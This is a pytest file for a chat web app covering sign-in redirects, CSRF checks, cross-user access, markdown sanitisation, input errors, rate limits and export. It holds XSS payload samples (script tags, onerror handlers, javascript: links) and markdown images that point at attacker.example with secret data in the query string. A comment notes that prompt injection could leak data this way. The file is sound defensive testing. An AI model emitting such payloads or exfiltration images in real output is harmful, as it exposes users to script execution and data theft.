"""Every chat page and endpoint over HTTP: signed out, CSRF, another user's conversation,
hostile text, bad input, the streamed answer and the limit."""

from __future__ import annotations

import re

import pytest
from sqlalchemy import select

from levante.storage import Database, utcnow
from levante.storage.models import ChatMessage, Conversation
from levante.vocabulary import MessageRole, MessageState, TitleSource
from levante.web.markdown import render_markdown
from tests.web.conftest import Browser, set_free_plan


def _conversation(person: Browser, content: str = "Hello there") -> str:
    status, events = person.send(content)
    assert status == 200, events
    return str(events[0]["conversation_id"])


def test_a_message_streams_start_text_and_the_kept_answer(person: Browser) -> None:
    person.sign_up("alice@example.com")
    status, events = person.send("Write a list of three fruits.")
    assert status == 200
    kinds = [e["type"] for e in events]
    assert kinds[0] == "start"
    assert "delta" in kinds
    assert kinds[-1] == "done"
    done = events[-1]
    assert done["state"] == "complete"
    assert done["usage"]["completion_tokens"] > 0
    assert re.search(r"messages left", done["allowance"][0]["text"])
    assert done["allowance"][0]["frees_at"] is not None  # an instant, written in local time
    now = person.get_json("/chat/allowance").json()["allowance"]
    assert now == done["allowance"]
    page = person.get(f"/chat/c/{events[0]['conversation_id']}")
    assert page.status_code == 200
    assert "Write a list of three fruits." in page.text


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("get", "/chat"),
        ("get", "/chat/c/conv_x"),
        ("get", "/chat/export"),
        ("get", "/account"),
    ],
)
def test_signed_out_pages_send_the_browser_to_sign_in(
    person: Browser, method: str, path: str
) -> None:
    response = person.get(path, follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"].startswith("/login?next=")


def test_another_users_conversation_is_not_found_everywhere(
    person: Browser, other_person: Browser
) -> None:
    person.sign_up("alice@example.com")
    conversation = _conversation(person)
    other_person.sign_up("mallory@example.com")
    for path in (
        f"/chat/c/{conversation}",
        f"/chat/c/{conversation}/export?format=md",
        f"/chat/c/{conversation}/export?format=json",
    ):
        response = other_person.get(path)
        assert response.status_code == 404, path
        assert "does not exist" in response.text
    assert other_person.get_json(f"/chat/c/{conversation}/title").status_code == 404
    for path in (f"/chat/c/{conversation}/rename", f"/chat/c/{conversation}/delete"):
        assert other_person.post(path, {"title": "mine"}).status_code == 404, path
    status, _ = other_person.send("Hijack", conversation_id=conversation)
    assert status == 404
    status, _ = other_person.send("", conversation_id=conversation, mode="regenerate")
    assert status == 404
    # The search of another user never finds it.
    assert "Hello there" not in other_person.get("/chat/search?q=hello").text
    # ...and it is still the owner's, unchanged.
    assert person.get(f"/chat/c/{conversation}").status_code == 200


def test_state_changing_requests_without_the_csrf_token_are_refused(
    person: Browser, database: Database
) -> None:
    person.sign_up("alice@example.com")
    conversation = _conversation(person)
    for path, data in (
        (f"/chat/c/{conversation}/rename", {"title": "x"}),
        (f"/chat/c/{conversation}/delete", {}),
        ("/account/instructions", {"instructions": "be brief"}),
        ("/account/password", {"current_password": "x", "new_password": "y"}),
        ("/account/plan", {"plan": "chat-pro-monthly"}),
        ("/account/delete", {"password": "x"}),
        ("/logout", {}),
    ):
        refused = person.post(path, data, csrf=False)
        assert refused.status_code == 403, path
        assert "did not come from this site" in refused.text
    person.csrf = "forged"
    status, body = person.send("Hello")
    assert status == 403
    assert body[0]["code"] == "csrf_failed"
    with database.session() as session:
        assert session.get_one(Conversation, conversation).title != "x"


def test_hostile_text_is_shown_never_run(person: Browser, database: Database) -> None:
    person.sign_up("alice@example.com")
    hostile = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    conversation = _conversation(person, hostile)
    with database.session() as session:
        answer = session.scalars(
            select(ChatMessage).where(
                ChatMessage.conversation_id == conversation,
                ChatMessage.role == MessageRole.ASSISTANT,
            )
        ).one()
        answer.content = (
            "Here:\n\n<script>alert(3)</script>\n\n[click](javascript:alert(4))\n\n"
            '<img src="x" onerror="alert(5)">\n\n```html\n<script>alert(6)</script>\n```'
        )
        conv = session.get_one(Conversation, conversation)
        conv.title = "<b onmouseover=alert(7)>title</b>"
        conv.title_source = TitleSource.USER
    page = person.get(f"/chat/c/{conversation}").text
    # The elements the person builds, without their (quoted, escaped) attribute values.
    tags = [re.sub(r'"[^"]*"', '""', t) for t in re.findall(r"<[a-zA-Z][^>]*>", page)]
    assert not [t for t in tags if re.search(r"\son\w+=", t)], "an event handler survived"
    assert "javascript:" not in page.replace("[click](javascript:", "")
    assert "<script>alert" not in page
    assert not [t for t in tags if t.startswith("<script") and "src=" not in t]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown, as text
    assert "&lt;script&gt;alert(6)&lt;/script&gt;" in page  # a code block, as text


def test_markdown_keeps_what_the_chat_shows_and_drops_what_could_run() -> None:
    html = str(
        render_markdown(
            "# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n\n```python\nprint(1)\n```"
            '\n\n<iframe src="x"></iframe> [ok](https://example.com) ![i](x" onerror="y)'
        )
    )
    assert "<table>" in html
    assert "<li>one</li>" in html
    assert '<code class="language-python">' in html
    assert "<iframe" not in html
    assert 'href="https://example.com"' in html
    assert "rel=" in html
    assert not re.search(r"<[^>]*\sonerror=", html)


def test_a_markdown_image_is_a_link_and_never_loads_another_host() -> None:
    # An image would be fetched when the page opens, telling the host who read the text
    # (and whatever a prompt injection put in its query string).
    html = str(
        render_markdown(
            '![secret summary](https://attacker.example/p.png?q=the+secret "t") and '
            "![](https://attacker.example/empty.png) and "
            "![dot](data:image/png;base64,iVBORw0KGgo=) and "
            "[![nested](https://attacker.example/n.png)](https://example.com/page)"
        )
    )
    assert "<img" not in html
    assert (
        '<a href="https://attacker.example/p.png?q=the+secret" title="t" '
        'rel="noopener noreferrer nofollow">secret summary</a>'
    ) in html
    assert 'href="https://attacker.example/empty.png"' in html
    assert "data:" not in html
    assert 'href="https://example.com/page"' in html


def test_bad_input_gets_a_clear_error_and_no_500(person: Browser) -> None:
    person.sign_up("alice@example.com")
    assert person.send("")[0] == 400
    assert person.send("x" * 40_000)[0] == 400
    status, body = person.send("Hi", mode="shout")
    assert (status, body[0]["param"]) == (400, "mode")
    status, body = person.send("Hi", model="no-such-model")
    assert (status, body[0]["param"]) == (400, "model")
    status, body = person.send("Hi", conversation_id="conv_nope")
    assert status == 404
    status, body = person.send("", conversation_id="conv_nope", mode="edit", position=0)
    assert status in (400, 404)
    with person._jar() as client:
        malformed = client.post(
            "/chat/messages",
            content=b"{not json",
            headers={"X-CSRF-Token": person.csrf, "Content-Type": "application/json"},
        )
    assert malformed.status_code == 400
    missing = person.get("/chat/no/such/page")
    assert missing.status_code == 404
    assert "<html" in missing.text
    assert person.post("/chat/c/conv_nope/rename", {"title": ""}).status_code == 404


def test_the_free_limit_refuses_with_when_it_frees_and_an_upgrade(
    person: Browser, database: Database
) -> None:
    set_free_plan(database, messages_per_window=1)
    person.sign_up("alice@example.com")
    conversation = _conversation(person)
    status, body = person.send("Again", conversation_id=conversation)
    assert status == 429
    error = body[0]
    assert error["code"] == "message_limit_reached"
    assert error["upgrade_url"] == "/account#plans"
    assert "resets_at" in error
    page = person.get("/chat")
    assert "0 of 1 messages left" in page.text
    # An instant the browser writes in the visitor's time, a dated UTC fallback without scripts.
    assert re.search(r'next frees up <time datetime="[^"]+" data-local>\w{3} \d{1,2} \w{3} '
                     r"\d{2}:\d{2} UTC</time>", page.text)  # fmt: skip


def test_rename_delete_search_and_export(person: Browser) -> None:
    person.sign_up("alice@example.com")
    conversation = _conversation(person, "Tell me about otters")
    assert person.post(f"/chat/c/{conversation}/rename", {"title": "Otters"}).status_code == 303
    assert ">Otters<" in person.get("/chat/search?q=otters").text
    assert "Nothing matches" in person.get("/chat/search?q=giraffes").text
    markdown = person.get(f"/chat/c/{conversation}/export?format=md")
    assert markdown.headers["content-disposition"] == 'attachment; filename="Otters.md"'
    assert (
        person.post(f"/chat/c/{conversation}/rename", {"title": "Łódź: day 1/2"}).status_code == 303
    )
    named = person.get(f"/chat/c/{conversation}/export?format=json").headers["content-disposition"]
    assert named == (  # the title, in its own script, without what a file system refuses
        "attachment; filename=\"_odz day 1 2.json\"; filename*=UTF-8''%C5%81%C3%B3d%C5%BA%20day%201%202.json"
    )
    assert person.post(f"/chat/c/{conversation}/rename", {"title": "Otters"}).status_code == 303
    assert markdown.text.startswith("# Otters")
    everything = person.get_json("/chat/export?format=json").json()
    assert [c["title"] for c in everything["conversations"]] == ["Otters"]
    assert person.post(f"/chat/c/{conversation}/delete").status_code == 303
    assert person.get(f"/chat/c/{conversation}").status_code == 404


def test_regenerate_and_edit_over_http(person: Browser, database: Database) -> None:
    person.sign_up("alice@example.com")
    conversation = _conversation(person, "Say hi")
    status, events = person.send("", conversation_id=conversation, mode="regenerate")
    assert status == 200
    assert events[0]["answer_position"] == 1
    status, events = person.send("Say bye", conversation_id=conversation, mode="edit", position=0)
    assert status == 200
    with database.session() as session:
        rows = session.scalars(
            select(ChatMessage)
            .where(ChatMessage.conversation_id == conversation)
            .order_by(ChatMessage.position)
        ).all()
        assert (rows[0].role, rows[0].content) == ("user", "Say bye")
        assert len(rows) == 2
        assert rows[1].state == MessageState.COMPLETE
        assert rows[1].created_at <= utcnow()
